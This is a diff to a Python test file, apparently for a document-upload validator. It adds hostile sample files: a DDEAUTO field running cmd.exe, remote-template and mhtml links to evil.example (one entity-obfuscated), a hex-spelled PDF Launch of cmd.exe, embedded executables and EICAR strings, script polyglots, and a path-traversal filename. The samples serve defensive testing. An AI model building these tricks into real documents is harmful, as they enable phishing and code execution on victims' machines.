@@ -129,6 +129,27 @@ def tar() -> bytes:
 EXE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 56 + b"PE\0\0" + b"\0" * 64
 
 
+def locked(content: bytes) -> bytes:
+    """A zip whose every entry says that it is encrypted."""
+    told = bytearray(content)
+    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = told.find(sign)
+        while at >= 0:
+            told[at + place] |= 1
+            at = told.find(sign, at + 4)
+    return bytes(told)
+
+
+DDE = '<w:document><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:document>'
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def related(kind: str, target: str, place: str = "word/_rels/settings.xml.rels") -> bytes:
+    """A document with a relation to something that lies elsewhere."""
+    told = f'<Relationships><Relationship Id="r1" Type="{RELATIONS}{kind}" Target="{target}" TargetMode="External"/>'
+    return docx({place: f"{told}</Relationships>"})
+
+
 def bomb_entries() -> dict[str, bytes | str]:
     return {f"word/media/{n}.bin": b"\0" * 60_000_000 for n in range(4)}
 
@@ -206,6 +227,45 @@ def hostile() -> list[tuple[str, bytes, str]]:
         ("notes.txt", b"Robin was seen on Monday.", "of a kind that we can’t take"),
         ("noise.pdf", bytes(range(256)) * 40, "of a kind that we can’t take"),
         ("empty.pdf", b"", "is empty"),
+        ("picture.docx", docx({"word/media/image1.png": EXE}), "has another file inside"),
+        ("eicar-picture.docx", docx({"word/media/image1.png": EICAR}), "has another file inside"),
+        ("zip-picture.docx", docx({"word/media/image1.png": zipped(eicar=EICAR)}), "has another file inside"),
+        ("old-inside.docx", docx({"word/embeddings/old.xls": OLE}), "has another file inside"),
+        ("locked-zip.docx", docx({"word/embeddings/a.bin": locked(zipped(a=EXE))}), "has another file inside"),
+        ("locked-parts.docx", locked(docx()), "locked with a password"),
+        ("macro-inside.docx", docx({"word/embeddings/a.xlsx": macro}), "has macros"),
+        (
+            "eicar-inside.docx",
+            docx({"word/embeddings/a.docx": docx({"word/media/b.emf": EICAR})}),
+            "another file inside",
+        ),
+        ("template.docx", related("attachedTemplate", "https://evil.example/a.dotm"), "fetches something"),
+        ("template2.docx", related("attachedTemplate", "&#104;ttp://evil.example/a.dotm"), "fetches something"),
+        (
+            "object2.docx",
+            related("oleObject", "mhtml:https://evil.example/a!x", "word/_rels/document.xml.rels"),
+            "fetches",
+        ),
+        (
+            "dde.docx",
+            packed({"[Content_Types].xml": TYPES.format(WORD), "word/document.xml": DDE}),
+            "fetches something",
+        ),
+        (
+            "dde.xlsx",
+            packed({"[Content_Types].xml": TYPES, "xl/externalLinks/a.xml": "<ddeLink ddeService='cmd'/>"}),
+            "fetches",
+        ),
+        ("spelt.pdf", pdf(b"2 0 obj<</S/#4c#61unch/F(cmd.exe)>>endobj"), "another file inside"),
+        ("spelt2.pdf", pdf(b"2 0 obj<</Embedded#46iles 3 0 R>>endobj"), "another file inside"),
+        ("script.pdf", b"<script>alert(1)</script>" + pdf(), "web page or a drawing"),
+        ("program.pdf", EXE + pdf(), "is a program"),
+        ("gif.js", b"GIF89a=1;alert(1)", "can’t take"),
+        ("script.heic", heic()[:200] + b"<script>alert(1)</script>", "can’t be opened"),
+        ("script.msg", msg("notes.js\0"), "a program or macros attached"),
+        ("page.msg", msg("notes.HTA\0"), "a program or macros attached"),
+        ("eicar.eml", eml(EICAR, "note.txt"), "a program attached"),
+        ("eicar2.eml", eml(nested=message(zipped(eicar=EICAR), "plan.pdf")), "is an archive"),
         ("evil.eml", eml(EXE, "invoice.pdf"), "a program attached"),
         ("script.eml", eml(b"WScript.Echo 1", "invoice.vbs"), "a program attached"),
         ("packed.eml", eml(zipped(a="b"), "documents.zip"), "is an archive"),
@@ -230,4 +290,7 @@ def good() -> list[tuple[str, bytes, str]]:
         ("../../etc/passwd", pdf(b"% up"), "pdf"),
         ("C:\\notes\\plan.pdf", pdf(b"% windows"), "pdf"),
         ("😀.png", image("PNG", (3, 3)), "png"),
+        ("chart.docx", docx({"word/embeddings/Chart.xlsx": xlsx(), "word/media/a.emz": gzip.compress(b"a")}), "docx"),
+        ("council.docx", related("attachedTemplate", "file:///C:\\\\Templates\\\\Council.dotx"), "docx"),
+        ("linked.docx", related("hyperlink", "https://school.example/", "word/_rels/document.xml.rels"), "docx"),
     ]
